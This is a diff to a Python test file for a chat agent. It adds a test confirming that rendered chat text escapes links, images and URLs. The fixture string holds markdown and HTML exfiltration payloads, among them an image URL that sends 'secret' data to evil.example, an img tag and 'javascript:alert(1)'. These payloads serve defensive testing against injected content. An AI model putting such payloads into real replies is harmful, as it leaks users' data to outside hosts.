@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import re
+from collections.abc import Callable
 from dataclasses import asdict
 from html.parser import HTMLParser
 
+import pytest
 from langchain_core.messages import AIMessage, HumanMessage
 
 from agent.agent import ShownItem
@@ -231,3 +234,22 @@ def test_belief_round_trips_through_page_state() -> None:
     row = BeliefRow("Avoids", "avoided", "horror", "genre", "genre: horror")
     assert BeliefRow(**asdict(row)) == row
     assert row.belief() == Belief(kind="avoided", attribute="genre", value="horror")
+
+
+EXFILTRATION = (
+    "Enjoy Inception! ![pixel](http://evil.example/p.png?d=secret) "
+    "[click me](https://evil.example/x) <img src=http://evil.example/i.png> "
+    "see www.evil.example or mail me@evil.example, javascript:alert(1) "
+    '[ref]: http://evil.example/r "t"'
+)
+
+
+@pytest.mark.parametrize("render", [reply_text, user_text])
+def test_chat_text_holds_no_link_or_image(render: Callable[[str], str]) -> None:
+    """What Gradio's Markdown would turn into a fetch or a click stays plain text."""
+    shown = render(EXFILTRATION)
+    assert "<img" not in shown and "&lt;img" in shown
+    assert re.search(r"(?<!\\)[\[\]]", shown) is None  # every bracket escaped: \\[ \\]
+    for address in ("http://", "https://", "www.", "me@", "javascript:"):
+        assert address not in shown, address
+    assert "http\\://evil.example" in shown and "www\\.evil" in shown and "me\\@evil" in shown
